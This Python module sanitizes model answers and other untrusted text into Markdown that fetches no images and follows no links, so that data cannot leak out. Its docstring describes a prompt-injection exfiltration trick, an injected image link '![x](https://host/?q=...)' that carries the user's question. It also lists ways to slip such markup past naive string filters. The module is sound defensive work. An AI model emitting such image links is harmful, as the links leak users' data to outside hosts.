r"""Model text and other untrusted text as Markdown that loads nothing when shown.

A document can carry instructions that make the model write an image whose
address carries the question or other passages (``![x](https://host/?q=...)``);
a browser fetches an image on its own, so showing that answer would send the
data away. Filtering the raw string cannot be complete (escaped ``\!``,
reference-style images, raw ``<img>`` tags, a stream that splits ``\`` from
``!``), so the text is parsed instead, with markdown-it (the CommonMark parser
Streamlit already depends on), and written back as Markdown in which every
ASCII punctuation character of the text is backslash-escaped: only the markup
this module writes itself (emphasis, code, lists, headings, quotes, tables)
stays markup. Images become their alt text, links their text, and addresses
are shown as code, never as something a browser follows or fetches. Raw HTML
is shown as the text it is.

Addresses must be code, not escaped text: remark-gfm (Streamlit's renderer)
finds GFM autolinks in the text after unescaping, so ``www\\.evil\\.example``
is still a link there. Two generated code spans must never touch either, or
their fences merge and the second one's content is parsed as live Markdown.

The rewrite fails closed: its output is parsed again (markdown-it with raw HTML
and linkify on), and if any image, link, autolink, raw HTML or address outside
code is found, the whole text is shown escaped instead (verified the same way),
and failing that as one fenced code block.

The output is Markdown, not HTML, and the app shows it with
``unsafe_allow_html=False``: if a renderer ever disagreed with this module,
Streamlit would still refuse HTML, and an escaped character can only ever be
shown as itself.
"""

from __future__ import annotations

import re
import string
from collections.abc import Callable, Iterable, Sequence
from typing import Literal

from linkify_it import LinkifyIt
from markdown_it import MarkdownIt
from markdown_it.token import Token
from markdown_it.tree import SyntaxTreeNode

__all__ = [
    "addresses_as_code",
    "code_span",
    "escape_text",
    "is_inert",
    "rewrite_markup",
    "safe_markdown",
]

_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
# The fail-closed check: what an attacker would hope the renderer does (raw HTML, linkify).
# Linkify's fuzzy links (a bare `notes.md`, `example.com`) are off: GFM links only schemes,
# `www.` and e-mail addresses, and those the address search below finds too.
_CHECKER = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(
    ["table", "strikethrough", "linkify"]
)
_CHECKER.linkify = LinkifyIt(options={"fuzzy_link": False})
_LIVE_TOKENS = frozenset({"image", "link_open", "html_inline", "html_block"})
_PUNCTUATION = re.compile("([" + re.escape(string.punctuation) + "])")
# Text a GFM renderer would turn into a link by itself: a scheme, www., an e-mail address.
# No word boundary before them: GFM counts `_` as punctuation where Python's \b does not,
# so `_http://x` and `x_www.x` are links there; matching anywhere is the safe superset.
# cmark-gfm takes `x@.evil.example` for an address, so the domain may start with a dot.
_URL_CHAR = r"[^\s<>\"'`{}]"
# Each alternative starts only where a run of its characters starts, and takes the run
# possessively: a long word without `://` or `@` is then read once, not once per letter
# (the search was quadratic, 12 s on one 20,000-letter word). The whole run is a superset
# of what a renderer would link.
_ADDRESS = re.compile(
    rf"(?i)(?<![a-z0-9+.-])[a-z0-9+.-]++://{_URL_CHAR}*|www\.{_URL_CHAR}*"
    rf"|(?:mailto|xmpp|javascript|data|file):{_URL_CHAR}+"
    rf"|(?<![\w.+-])[\w.+-]++@[\w.-]*\.[\w-]+"
)
_WITHHELD = "\\(This text is not shown: it could not be made safe to display\\.\\)"
_TRAILING = ".,;:!?'\")]}"
_LINE_END = re.compile(r"\r\n|\r|\n")
_FENCE_INFO = re.compile(r"[^\w+-]")
_Where = Literal["paragraph", "heading", "cell"]
_ALIGN = {"text-align:left": ":--", "text-align:right": "--:", "text-align:center": ":-:"}


def safe_markdown(text: str) -> str:
    """``text`` (e.g. a model's answer) as Markdown that shows it but can load nothing.

    Call it on the whole text each time, also while a stream is still arriving:
    a construct split across tokens is then seen whole once it is complete. The
    result is checked (:func:`is_inert`); text the rewrite cannot make inert is
    shown escaped, or as a code block, instead.
    """
    for candidate in (rewrite_markup(text), escape_text(text), _code_block(text)):
        if is_inert(candidate):
            return candidate
    return _WITHHELD


def escape_text(text: str) -> str:
    """Plain text (a file name, an error message) that Markdown shows exactly as written.

    No address spans whitespace, so a text escaped whole word by whole word (a
    stream) joins into the same Markdown as the text escaped at once; escaping
    parts of a word does not (``www`` and ``.evil.example`` join into a link).
    Not for a GFM table cell, where a ``|`` in an address's code span would end
    the cell (:func:`safe_markdown` writes its tables itself).
    """
    return "\n".join(_text(line) for line in _LINE_END.split(text))


def addresses_as_code(text: str, escape: Callable[[str], str], *, in_table: bool = False) -> str:
    """``text`` with every address a GFM renderer would link as code, the rest ``escape``-d.

    For writers that escape less than :func:`escape_text` (the export keeps
    ``[1]`` markers and stays readable as plain text). ``escape`` must escape
    every backtick, so that no backtick of the text touches a generated code span.
    """
    parts: list[str] = []
    last = 0
    for match in _ADDRESS.finditer(text):
        address = match.group(0).rstrip(_TRAILING)
        if not address:
            continue
        parts.append(escape(text[last : match.start()]))
        parts.append(code_span(address, in_table=in_table))
        last = match.start() + len(address)
    parts.append(escape(text[last:]))
    return _join(parts)


def is_inert(markdown: str) -> bool:
    """Whether a renderer can find no image, link, autolink or raw HTML in ``markdown``.

    Besides markdown-it's own tokens (with raw HTML and linkify on), the text
    outside code must hold no address: GFM renderers link those by themselves,
    remark-gfm even through backslash escapes and entities.
    """
    for token in _CHECKER.parse(markdown):
        if token.type in _LIVE_TOKENS:
            return False
        if token.type == "inline" and not _inert_inline(token.children or []):
            return False
    return True


def code_span(text: str, *, in_table: bool = False) -> str:
    """``text`` as a Markdown code span, whatever backticks or line ends it holds."""
    text = _LINE_END.sub(" ", text)
    if in_table:
        text = text.replace("|", "\\|")  # GFM splits cells before it parses code spans
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.strip(" ") and (text[0] in " `" or text[-1] in " `") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


# --- the rewrite, its check and its fallback -----------------------------------------------


def rewrite_markup(text: str) -> str:
    """The text parsed and written back with its markup, every address as code."""
    return "\n".join(_blocks(SyntaxTreeNode(_PARSER.parse(text)).children))


def _code_block(text: str) -> str:
    """The whole text as one fenced code block: nothing in it is parsed."""
    return "\n".join(_fence(_LINE_END.sub("\n", text), ""))


def _inert_inline(children: Sequence[Token]) -> bool:
    """No live token, and no address in the text outside code (joined across markup)."""
    text: list[str] = []
    for child in children:
        if child.type in _LIVE_TOKENS:
            return False
        if child.type in ("code_inline", "hardbreak"):
            text.append(" ")  # code and breaks end a text node
        elif child.type == "softbreak":
            text.append("\n")
        else:
            text.append(child.content)
    return not _ADDRESS.search("".join(text))


def _join(pieces: Iterable[str]) -> str:
    """Markdown pieces one after the other, with a space where two backtick runs would touch.

    Touching, the closing fence of one code span and the opening fence of the
    next would be read as one longer run, and the code's content as Markdown.
    """
    joined: list[str] = []
    for piece in filter(None, pieces):
        if joined and joined[-1].endswith("`") and piece.startswith("`"):
            joined.append(" ")
        joined.append(piece)
    return "".join(joined)


# --- blocks: each returns its lines --------------------------------------------------------


def _blocks(nodes: Sequence[SyntaxTreeNode], tight: bool = False) -> list[str]:
    """Block nodes one after the other, a blank line apart unless ``tight``."""
    lines: list[str] = []
    for node in nodes:
        block = _block(node)
        if not block:
            continue
        if lines and not tight:
            lines.append("")
        lines.extend(block)
    return lines


def _block(node: SyntaxTreeNode) -> list[str]:
    """One block node as Markdown lines; an unknown kind is shown as escaped text."""
    match node.type:
        case "paragraph":
            return _inline(node).split("\n")
        case "heading":
            return [f"{'#' * int(node.tag[1])} {_inline(node, 'heading')}"]
        case "blockquote":
            return [f"> {line}" if line else ">" for line in _blocks(node.children)]
        case "bullet_list" | "ordered_list":
            return _list(node)
        case "fence" | "code_block":
            return _fence(node.content, node.info)
        case "hr":
            return ["***"]
        case "table":
            return _table(node)
        case _:
            return [escape_text(line) for line in node.content.split("\n") if line]


def _list(node: SyntaxTreeNode) -> list[str]:
    """A list with its items' markers; tight lists stay tight."""
    tight = any(child.hidden for item in node.children for child in item.children)
    lines: list[str] = []
    for item in node.children:
        marker = f"{item.info}{item.markup}" if node.type == "ordered_list" else item.markup
        body = _blocks(item.children, tight=tight)
        if lines and not tight:
            lines.append("")
        lines.extend(_indent(marker, body))
    return lines


def _indent(marker: str, body: list[str]) -> list[str]:
    """An item's lines: the marker before the first, the others aligned under its text."""
    if not body:
        return [marker]
    pad = " " * (len(marker) + 1)
    return [f"{marker} {body[0]}"] + [f"{pad}{line}" if line else "" for line in body[1:]]


def _fence(content: str, info: str) -> list[str]:
    """A fenced code block longer than any backtick run inside it; the language kept plain."""
    longest = max((len(run) for run in re.findall(r"`+", content)), default=0)
    fence = "`" * max(3, longest + 1)
    language = _FENCE_INFO.sub("", info.split(" ")[0])[:20] if info else ""
    return [f"{fence}{language}", *content.rstrip("\n").split("\n"), fence]


def _table(node: SyntaxTreeNode) -> list[str]:
    """A GFM table: header row, alignment row, body rows."""
    rows = [row for part in node.children for row in part.children]
    if not rows:
        return []
    cells = [[_inline(cell, "cell") for cell in row.children] for row in rows]
    aligns = [_ALIGN.get(str(cell.attrs.get("style", "")), "---") for cell in rows[0].children]
    lines = [_row(cells[0]), _row(aligns)]
    return lines + [_row(row) for row in cells[1:]]


def _row(cells: list[str]) -> str:
    return "| " + " | ".join(cells) + " |"


# --- inline --------------------------------------------------------------------------------


def _inline(node: SyntaxTreeNode, where: _Where = "paragraph") -> str:
    """A block's inline content (the children of its ``inline`` node)."""
    return _join(_span(child, where) for inline in node.children for child in inline.children)


def _spans(node: SyntaxTreeNode, where: _Where) -> str:
    return _join(_span(child, where) for child in node.children)


def _span(node: SyntaxTreeNode, where: _Where) -> str:
    """One inline node: markup rebuilt, text escaped, links and images made inert."""
    in_table = where == "cell"
    match node.type:
        case "text":
            return _text(node.content, in_table)
        case "softbreak":
            return "\n" if where == "paragraph" else " "
        case "hardbreak":
            return "\\\n" if where == "paragraph" else " "
        case "code_inline":
            return code_span(node.content, in_table=in_table)
        case "em" | "strong" | "s":
            return f"{node.markup}{_spans(node, where)}{node.markup}"
        case "link":
            return _inert_link(_spans(node, where), str(node.attrs.get("href", "")), in_table)
        case "image":
            label = _spans(node, where)
            address = code_span(str(node.attrs.get("src", "")), in_table=in_table)
            return f"{label} \\(image not loaded\\: {address}\\)".lstrip()
        case _:
            return _text(node.content, in_table)


def _inert_link(label: str, href: str, in_table: bool) -> str:
    """A link's text, followed by its address as code (shown, never followed)."""
    address = code_span(href, in_table=in_table)
    if label in (_text(href, in_table), address, ""):
        return address
    return f"{label} \\({address}\\)"


def _text(text: str, in_table: bool = False) -> str:
    """Literal text: every ASCII punctuation escaped, web and mail addresses as code."""
    return addresses_as_code(text, _escape_punctuation, in_table=in_table)


def _escape_punctuation(text: str) -> str:
    return _PUNCTUATION.sub(r"\\\1", text)
